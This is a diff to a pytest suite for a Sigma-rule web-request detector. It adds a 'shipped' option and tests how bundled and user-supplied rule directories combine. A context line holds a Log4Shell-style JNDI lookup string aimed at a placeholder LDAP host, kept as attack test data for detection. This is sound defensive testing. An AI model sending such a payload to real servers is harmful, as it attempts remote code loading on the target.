@@ -58,7 +58,9 @@ def detector(tmp_path: Path, *rules: str, **config: object) -> SigmaRules:
     folder.mkdir(parents=True, exist_ok=True)
     for i, text in enumerate(rules):
         (folder / f"rule_{i:02d}.yml").write_text(text, encoding="utf-8")
-    return SigmaRules(SigmaRulesConfig.model_validate({"rule_dirs": [folder], **config}))
+    return SigmaRules(
+        SigmaRulesConfig.model_validate({"rule_dirs": [folder], "shipped": False, **config})
+    )
 
 
 def req(
@@ -501,7 +503,7 @@ def test_w3c_and_ecs_names_match_the_same_request(tmp_path: Path) -> None:
 
 
 def test_samples_load_and_unsupported_rules_are_skipped_with_reasons() -> None:
-    det = SigmaRules(SigmaRulesConfig(rule_dirs=[SAMPLES]))
+    det = SigmaRules(SigmaRulesConfig(rule_dirs=[SAMPLES], shipped=False))
     report = det.load_report()
     assert report.errors == []
     assert len(report.loaded) == 15
@@ -512,7 +514,9 @@ def test_samples_load_and_unsupported_rules_are_skipped_with_reasons() -> None:
             "field 'TargetFilename' is not mapped to portal requests"
         ),
     }
-    only_proxy = SigmaRules(SigmaRulesConfig(rule_dirs=[SAMPLES], include_categories=["proxy"]))
+    only_proxy = SigmaRules(
+        SigmaRulesConfig(rule_dirs=[SAMPLES], shipped=False, include_categories=["proxy"])
+    )
     assert {r.title for r in only_proxy.load_report().loaded} == {
         "Hack Tool User Agent",
         "Executable Download From Suspicious TLD",
@@ -593,7 +597,7 @@ BROKEN = {
 def test_bad_rules_are_reported_and_the_good_ones_run(tmp_path: Path) -> None:
     for name, text in BROKEN.items():
         (tmp_path / name).write_text(text, encoding="utf-8")
-    det = SigmaRules(SigmaRulesConfig(rule_dirs=[tmp_path]))
+    det = SigmaRules(SigmaRulesConfig(rule_dirs=[tmp_path], shipped=False))
     report = det.load_report()
     errors = {(Path(e.file).name, e.id): e.message for e in report.errors}
     assert set(errors) == {
@@ -612,7 +616,7 @@ def test_bad_rules_are_reported_and_the_good_ones_run(tmp_path: Path) -> None:
 def test_strict_loading_raises_a_located_error(tmp_path: Path) -> None:
     (tmp_path / "bad_modifier.yml").write_text(BROKEN["bad_modifier.yml"], encoding="utf-8")
     with pytest.raises(ConfigError) as info:
-        SigmaRules(SigmaRulesConfig(rule_dirs=[tmp_path], strict=True))
+        SigmaRules(SigmaRulesConfig(rule_dirs=[tmp_path], shipped=False, strict=True))
     assert "bad_modifier.yml" in str(info.value)
     assert "11111111-1111-4111-8111-111111111111" in str(info.value)
     assert info.value.where is not None and "bad_modifier.yml" in info.value.where
@@ -706,6 +710,17 @@ def test_shipped_rules_are_package_data_and_all_load() -> None:
 
 JNDI = "${jndi:ldap://203.0.113.5:1389/a}"
 UA = "header:User-Agent"
+
+
+def test_rule_dirs_add_to_the_shipped_rules_unless_they_are_turned_off(tmp_path: Path) -> None:
+    # a city adding SigmaHQ's web rules keeps citywatch's own portal rules
+    shipped = {r.id for r in SigmaRules(SigmaRulesConfig()).load_report().loaded}
+    theirs = {r.id for r in SigmaRules(SigmaRulesConfig(rule_dirs=[SAMPLES])).load_report().loaded}
+    only = SigmaRules(SigmaRulesConfig(rule_dirs=[SAMPLES], shipped=False)).load_report().loaded
+    assert shipped and shipped < theirs
+    assert {r.id for r in only} == theirs - shipped
+    again = SigmaRules(SigmaRulesConfig(rule_dirs=[shipped_rules()])).load_report()
+    assert again.errors == [] and {r.id for r in again.loaded} == shipped, "named twice, once"
 
 
 @pytest.mark.parametrize(
@@ -831,7 +846,7 @@ ATTACKS = [
 
 
 def test_prefilter_agrees_with_evaluating_every_rule() -> None:
-    det = SigmaRules(SigmaRulesConfig(rule_dirs=[shipped_rules(), SAMPLES]))
+    det = SigmaRules(SigmaRulesConfig(rule_dirs=[SAMPLES]))
     for event, expected in ATTACKS:
         assert titles(det, event) == brute_force(det, event) == expected
     for event in BENIGN:
@@ -884,7 +899,7 @@ _PIECES = st.sampled_from(
     ]
 )
 _TEXT = st.lists(st.one_of(_PIECES, st.text(max_size=6)), max_size=8).map("".join)
-_RULES = SigmaRules(SigmaRulesConfig(rule_dirs=[shipped_rules(), SAMPLES]))
+_RULES = SigmaRules(SigmaRulesConfig(rule_dirs=[SAMPLES]))
 
 
 @settings(max_examples=300, deadline=None)
@@ -930,10 +945,7 @@ class _PartByPart(_Prefilter):
 
 _FIELDS = SigmaRules(  # no keywords: the one search applies
     SigmaRulesConfig(
-        rule_dirs=[
-            shipped_rules(),
-            *(f for f in sorted(SAMPLES.glob("*.yml")) if "keywords:" not in f.read_text()),
-        ]
+        rule_dirs=[f for f in sorted(SAMPLES.glob("*.yml")) if "keywords:" not in f.read_text()]
     )
 )
 _HEADER = st.tuples(st.sampled_from(["Cookie", "User-Agent", "Referer", "X-A", "ß"]), _TEXT)
